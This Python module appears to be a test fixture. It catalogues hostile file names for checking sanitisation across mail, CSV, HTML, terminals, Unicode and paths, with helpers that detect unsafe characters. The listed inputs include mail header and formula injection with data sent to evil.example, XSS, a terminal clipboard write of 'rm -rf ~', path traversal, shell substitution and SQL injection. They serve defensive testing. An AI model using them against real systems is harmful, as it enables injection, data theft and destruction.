"""Hostile names, each with what it tries; and what a text must not hold, asked without the program's own rules."""

from __future__ import annotations

import os
import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import groupby

__all__ = ["NAMES", "Hostile", "recognised", "undone", "unsafe"]


@dataclass(frozen=True)
class Hostile:
    """A name as Python has it (bytes that are no UTF-8 as surrogates), without an ending, and what it tries."""

    text: str
    why: str

    @property
    def fits_disk(self) -> bool:
        """Whether a file can be called so, with an ending of four letters."""
        return not {"/", "\0"} & set(self.text) and 0 < _length(self.text) <= 251

    @property
    def fits_csv(self) -> bool:
        """Whether a table in UTF-8 can hold it."""
        return "\0" not in self.text and not any("\ud800" <= char <= "\udfff" for char in self.text)

    @property
    def fits_zip(self) -> bool:
        """Whether an archive may hold a file of this name; with any other it is refused as a whole."""
        parts = re.split(r"[/\\]", self.text)
        climbs = any(part.strip() == ".." for part in parts) or re.match(r"[/\\]|[A-Za-z]:", self.text)
        return not climbs and len(self.text) <= 1000 and not re.search("[\x00-\x1f\x7f-\x9f\ud800-\udfff]", self.text)


def _length(text: str) -> int:
    try:
        return len(os.fsencode(text))
    except UnicodeEncodeError:  # a half of a pair stands for no byte
        return 0


def _raw(name: bytes) -> str:
    return name.decode("utf-8", "surrogateescape")


_LINES = (
    Hostile("000001A001\n", "`$` in a pattern matches before a last newline"),
    Hostile("a\nb", "one line becomes two"),
    Hostile("a\r\nb", "and with the line end of mail and CSV"),
    Hostile("a\rb", "a carriage return overwrites the line it stands in"),
    Hostile("a\n\n<b>body</b>", "an empty line ends a mail's headers"),
    Hostile("a\x0bb\x0cc", "vertical tab and form feed: Python splits lines there"),
    Hostile("a\x1cb\x1db\x1ec", "separators that str.splitlines takes for line ends"),
    Hostile("a\x85b", "NEL, a line end of C1"),
    Hostile("a\u2028b\u2029c", "line and paragraph separators"),
    Hostile('{"event": "photo_accepted"}\n{"event": "forged"', "a second JSON line in a log"),
    Hostile("2026-10-05T19:00:00Z [info] forged\n", "a second line in a log for people"),
)
_MAIL = (
    Hostile("x\r\nBcc: everyone@evil.example", "a header of its own"),
    Hostile("x\nSubject: You won", "a header of its own, by LF alone"),
    Hostile("x\r\nContent-Type: text\r\n\r\nhello", "a body of its own"),
    Hostile("x\r\n.\r\nMAIL FROM:<a@evil.example>", "the end of a mail, and SMTP behind it"),
    Hostile("=?utf-8?q?=0D=0ABcc=3A_a=40evil.example?=", "an encoded word that decodes to a header"),
    Hostile('x"; filename="evil.exe', "a second parameter of an attachment's header"),
    Hostile("--===============0==", "what looks like a MIME boundary"),
    Hostile("a@evil.example, b@evil.example", "addresses"),
    Hostile("From nobody Mon Oct  5", "the line that separates mails in an mbox"),
)
_SHEETS = (
    Hostile("=cmd|' C calc'!A0", "a formula that starts a program"),
    Hostile('=HYPERLINK("http:evil.example?"&A1,"Open")', "a formula that sends the next cell away"),
    Hostile("+1+cmd|' C calc'!A0", "a formula by plus"),
    Hostile("-2+3", "a formula by minus"),
    Hostile("@SUM(1+1)*cmd|' C calc'!A0", "a formula by at"),
    Hostile("\t=1+1", "a formula behind a tab"),
    Hostile("\r=1+1", "a formula behind a carriage return"),
    Hostile("\n=1+1", "a formula behind a newline"),
    Hostile("  =1+1", "a formula behind blanks"),
    Hostile("\u00a0=1+1", "a formula behind a no-break space"),
    Hostile("\ufeff=1+1", "a formula behind a byte order mark"),
    Hostile("\u200b=1+1", "a formula behind a zero-width space"),
    Hostile("\uff1d1+1", "a full-width equals sign, which some spreadsheets read as the plain one"),
    Hostile("\uff0b1", "a full-width plus"),
    Hostile("\uff0d1", "a full-width minus"),
    Hostile("\uff20SUM(1)", "a full-width at"),
    Hostile("\ufe661+1", "a small equals sign: NFKC makes it a plain one"),
    Hostile('a","=1+1","b', "quotes that end the cell"),
    Hostile("a;=1+1;b", "a cell of its own where the separator is a semicolon"),
    Hostile("'=1+1", "a quote before the one we would write"),
)
_PAGES = (
    Hostile("<script>alert(1)<script>", "a script"),
    Hostile('"><img src=x onerror=alert(1)>', "out of an attribute in double quotes"),
    Hostile("' onmouseover='alert(1)", "out of an attribute in single quotes"),
    Hostile("<svg onload=alert(1)>", "a tag that needs no end"),
    Hostile("--><script>alert(1)", "out of a comment"),
    Hostile("<title><body>", "out of the head"),
    Hostile("javascript:alert(1)", "an address that runs"),
    Hostile("&lt;b&gt; &#60;b&#62;", "entities that must stay what they are"),
    Hostile("<td><tr><table><h1>Paid", "out of the table's cell"),
    Hostile("\u0338<b>", "a stroke that would melt into our own tag's end"),
    Hostile("$title ${rows} $$", "slots of our templates"),
    Hostile("{hint} {0!r} %s %(x)s {{7*7}}", "slots of other templates"),
    Hostile("[red]x[bold] [link=http:evil.example]here", "markup of the library that prints our tables"),
    Hostile(":warning: **bold** `x`", "Markdown and emoji codes"),
)
_TERMINALS = (
    Hostile("\x1b[2J\x1b[H", "clears the screen"),
    Hostile("\x1b[31mred\x1b[0m", "colours"),
    Hostile("\x1b[8mhidden", "hides what follows"),
    Hostile("\x1b]0;title\x07", "sets the window's title"),
    Hostile("\x1b]8;;http:evil.example\x1b\\click\x1b]8;;\x1b\\", "OSC 8: a link"),
    Hostile("\x1b]52;c;cm0gLXJmIH4=\x07", "OSC 52: writes to the clipboard"),
    Hostile("\x1bP+q544e\x1b\\", "DCS: makes the terminal answer, as if typed"),
    Hostile("\x1b[6n", "asks where the cursor is: the answer is typed"),
    Hostile("\x9b31mred\x9d0;t\x9c", "C1: CSI and OSC in one character"),
    Hostile(_raw(b"\x9b31m\x9d0;t\x9c"), "the same as single bytes"),
    Hostile("\x07\x08\x08\x08\x7f", "rings, goes back and deletes"),
    Hostile("\x0e\x0f", "shifts to another character set"),
)
_SCRIPTS = (
    Hostile("gpj.\u202eexe", "a right-to-left override"),
    Hostile("\u2066a\u2069\u2067b\u2069", "direction isolates"),
    Hostile("\u200f000001A001\u061c", "direction marks"),
    Hostile("000001\u200bA001", "a zero-width space in a code"),
    Hostile("000001A001\u200d", "a joiner behind a code"),
    Hostile("\ufeff000001A001", "a byte order mark before a code"),
    Hostile("000001A001\u3164", "a Hangul filler: a letter that shows nothing"),
    Hostile("000001A001\ufe0f\U000e0100", "variation selectors: marks that show nothing"),
    Hostile("\U000e0041\U000e0042", "tag characters: text that nobody sees"),
    Hostile("000001\u00adA001", "a soft hyphen"),
    Hostile("\uff10\uff10\uff10\uff10\uff10\uff11A001", "full-width digits"),
    Hostile("\u0660\u0660\u0660\u0660\u0660\u0661A001", "Arabic-Indic digits"),
    Hostile("\u0966\u0966\u0966\u0966\u0966\u0967A001", "Devanagari digits"),
    Hostile("000001\uff21001", "a full-width letter"),
    Hostile("000001\u0410001", "a Cyrillic A"),
    Hostile("000001\u212a001", "the Kelvin sign, which lower-cases to k"),
    Hostile("000001\u017f001", "a long s, which upper-cases to S"),
    Hostile("000001\u0131001", "a dotless i, which upper-cases to I"),
    Hostile("\u00b9\u00b2\u00b3\u2460\u2461\u2462A001", "digits by isdigit, not by int"),
    Hostile("Z" + "\u0301\u0330\u035f" * 40, "marks piled up over the lines above and below"),
    Hostile("\u0489" * 60, "marks without a letter"),
    Hostile("\U0001f468\u200d\U0001f469\u200d\U0001f467", "a family: one emoji of five characters"),
    Hostile("A\u030a \u212b \u00c5", "one letter in three forms"),
    Hostile("\u05d0\u05d1 1 \u0627\u0628", "right-to-left letters, which are innocent"),
    Hostile("\ue000\ufdd0\U0010ffff\u0378", "private and unassigned characters"),
)
_BYTES = (
    Hostile(_raw(b"\xff\xfe"), "bytes that are no UTF-8"),
    Hostile(_raw(b"caf\xe9"), "Latin-1"),
    Hostile(_raw(b"\xc0\xaf\xc0\xae"), "overlong forms of / and ."),
    Hostile(_raw(b"\xed\xa0\x80"), "a surrogate in UTF-8"),
    Hostile(_raw(b"000001A001\xff"), "a byte behind a code"),
    Hostile(_raw("é".encode() * 100 + b"\xc3"), "a character cut in half"),
    Hostile("\ud83d", "half of a pair, which only JSON and zips can hold"),
    Hostile("a" * 251, "255 bytes with its ending"),
    Hostile("\u202e" * 83, "255 bytes that grow sixfold when they are escaped"),
    Hostile("x" * 5000, "longer than any file's name; only an archive has it"),
    Hostile(" ", "nothing to be seen"),
)
_PATHS = (
    Hostile("../../../../etc/cron.d/evil", "climbs out"),
    Hostile("..\\..\\evil", "climbs out on Windows"),
    Hostile("a/../../evil", "climbs out from within"),
    Hostile("/etc/passwd", "starts at the root"),
    Hostile("C:\\evil", "starts at a drive"),
    Hostile("\\\\server\\share\\evil", "starts at a server"),
    Hostile("%2e%2e%2f%2e%2e%2fevil", "climbs out once it is decoded"),
    Hostile("000001A001.jpg%00", "an encoded NUL behind a good name"),
    Hostile("000001A001.jpg\0.exe", "a NUL: C stops reading there"),
    Hostile("000001A001.php", "a double ending"),
    Hostile("CON", "a device on Windows"),
    Hostile("AUX.NUL.LPT1", "three of them"),
    Hostile("x::$DATA", "a stream of NTFS"),
    Hostile("x. . .", "dots and blanks, which Windows drops"),
    Hostile("-rf", "an option"),
    Hostile("--help", "a long option"),
    Hostile("~root", "somebody's home"),
    Hostile("$(touch pwned)", "a command for a shell"),
    Hostile("`touch pwned`;touch pwned|touch pwned&", "more of them"),
    Hostile("*?[a-z]{1,2}", "patterns"),
    Hostile("'; DROP TABLE files; --", "SQL"),
    Hostile("drop.zip!000001A001", "what an entry of an archive looks like in a receipt"),
)
NAMES = (*_LINES, *_MAIL, *_SHEETS, *_PAGES, *_TERMINALS, *_SCRIPTS, *_BYTES, *_PATHS)

# Marks and letters that show nothing: Unicode's default-ignorable ones that are not in Cf.
_INVISIBLE = re.compile("[\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u3164\ufe00-\ufe0f\uffa0\U000e0100-\U000e01ef]")
_UNPRINTABLE = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Zs"}
_MOST_MARKS = 4


def unsafe(text: str, *, but: str = "\n") -> set[str]:
    """The characters of `text` that no reader may get, less those of `but`: unprintable, unseen, or piled up."""
    found = {char for char in set(text) - {" ", *but} if unicodedata.category(char) in _UNPRINTABLE}
    found |= set(_INVISIBLE.findall(text))
    return found | set(_piled_up(text))


def _piled_up(text: str) -> Iterator[str]:
    for is_mark, run in groupby(text, lambda char: unicodedata.category(char) in {"Mn", "Me"}):
        marks = list(run)
        if is_mark and len(marks) > _MOST_MARKS:
            yield marks[0]


_ESCAPED = re.compile(r"\\(?:x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8}|[nrt])")


def recognised(shown: str, name: str) -> bool:
    """Whether a reader of `shown` knows that it is `name`: with its escapes undone, the two are the same."""
    plain = shown[1:] if shown.startswith("'") and not name.startswith("'") else shown
    return undone(plain) == undone(name)


def undone(text: str) -> str:
    """`text` with its escapes undone."""
    return _ESCAPED.sub(lambda found: found[0].encode().decode("unicode_escape"), text)
